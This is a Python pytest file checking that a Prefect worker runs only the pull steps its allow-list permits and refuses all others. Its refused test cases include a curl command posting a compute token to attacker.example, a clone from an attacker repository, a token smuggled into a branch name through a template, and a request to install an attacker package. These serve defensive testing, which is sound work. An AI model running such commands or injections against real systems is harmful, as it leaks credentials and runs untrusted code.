"""The pull steps a prefect-ito worker runs: only those its own configuration allows, as judged."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from prefect_ito.worker import PULL_STEPS_VARIABLE, AllowedPullSteps
from prefect_ito.worker.allowed import Admission
from prefect_ito.worker.engine import run_pull_steps
from prefect_ito.worker.process import flow_process
from prefect_ito.worker.pull_steps import ADMITTED_VARIABLE, ENGINE_MODULE

CLONE = "prefect.deployments.steps.git_clone"
DIRECTORY = "prefect.deployments.steps.set_working_directory"
SHELL = "prefect.deployments.steps.run_shell_script"
REPOSITORY = "https://github.com/my-team/flows.git"
REFUSED = "Refused by the prefect-ito worker: the deployment's pull step "


def _clone(repository: str, **more: Any) -> dict[str, Any]:
    return {CLONE: {"repository": repository, **more}}


def test_the_list_is_the_argument_else_the_environment_else_none(
    monkeypatch: pytest.MonkeyPatch,
):
    monkeypatch.delenv(PULL_STEPS_VARIABLE, raising=False)
    assert AllowedPullSteps.configured().entries == ()
    monkeypatch.setenv(PULL_STEPS_VARIABLE, f"{CLONE}={REPOSITORY}, {DIRECTORY}")
    assert AllowedPullSteps.configured().entries == (f"{CLONE}={REPOSITORY}", DIRECTORY)
    assert AllowedPullSteps.configured([DIRECTORY]).entries == (DIRECTORY,)


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        (CLONE, f"{CLONE} needs the repository it may use"),  # any repository: anyone's code
        (f"{SHELL}=echo", f"{SHELL} takes no value"),
        ("not a function", "names no step function"),
        ("=x", "names no step function"),
    ],
)
def test_a_list_entry_that_allows_too_much_or_names_nothing_is_refused(entry: str, message: str):
    with pytest.raises(ValueError, match=message):
        AllowedPullSteps([entry])


def test_the_steps_it_allows_are_admitted_as_written():
    allowed = AllowedPullSteps([f"{CLONE}={REPOSITORY}", DIRECTORY])
    steps = [_clone(REPOSITORY, branch="main", id="clone"), {DIRECTORY: {"directory": "/srv/x"}}]

    assert allowed.judge(steps) == tuple(steps)
    assert allowed.judge(None) == allowed.judge([]) == ()


@pytest.mark.parametrize(
    ("steps", "message"),
    [
        (
            [{SHELL: {"script": "curl https://attacker.example -d $ITO_COMPUTE_TOKEN"}}],
            f"{REFUSED}'{SHELL}' is not one this worker runs (allowed: {CLONE}={REPOSITORY}; "
            "a worker is given its own with --allow-pull-step).",
        ),
        (
            [_clone("https://github.com/attacker/flows.git")],
            f"{REFUSED}'{CLONE}' has repository 'https://github.com/attacker/flows.git', which "
            f"this worker does not allow ({REPOSITORY}).",
        ),
        (
            # The token in a branch name would reach git's server and its error message.
            [_clone(REPOSITORY, branch="{{ ITO_COMPUTE_TOKEN }}")],
            f"{REFUSED}'{CLONE}' has a template ({{{{ … }}}}) in its inputs; this worker runs "
            "pull steps only as written.",
        ),
        (
            [_clone(REPOSITORY, requires="attacker-package")],
            f"{REFUSED}'{CLONE}' asks to install packages ('requires'); this worker installs none.",
        ),
        (
            [_clone(REPOSITORY), {SHELL: {"script": "x"}, CLONE: {}}],
            "Refused by the prefect-ito worker: a pull step of the deployment is not one step "
            "function with its inputs.",
        ),
    ],
)
def test_a_step_it_does_not_allow_refuses_the_deployment_naming_the_step(
    steps: list[Any], message: str
):
    assert AllowedPullSteps([f"{CLONE}={REPOSITORY}"]).judge(steps) == message


def test_the_flow_process_runs_the_judged_steps_only_when_there_are_some():
    env = {"PREFECT_API_URL": "http://127.0.0.1:1/api"}
    plain = Admission("prefect_ito.flows.ito_training")
    step = {DIRECTORY: {"directory": "/srv/x"}}
    pulled = Admission("prefect_ito.flows.ito_training", pull_steps=(step,))

    assert flow_process(plain, env) == (None, env)  # Prefect's own `-m prefect.engine`
    command, pulled_env = flow_process(pulled, env)
    assert command is not None and command.endswith(f"-m {ENGINE_MODULE}")
    assert json.loads(pulled_env[ADMITTED_VARIABLE] or "") == [step]


def test_the_admitted_steps_run_as_written_and_leave_their_directory(tmp_path: Path):
    here = os.getcwd()
    try:
        directory = run_pull_steps([{DIRECTORY: {"directory": str(tmp_path), "id": "here"}}])
        assert Path(os.getcwd()) == tmp_path
    finally:
        os.chdir(here)
    assert directory == str(tmp_path)
    assert run_pull_steps([]) is None
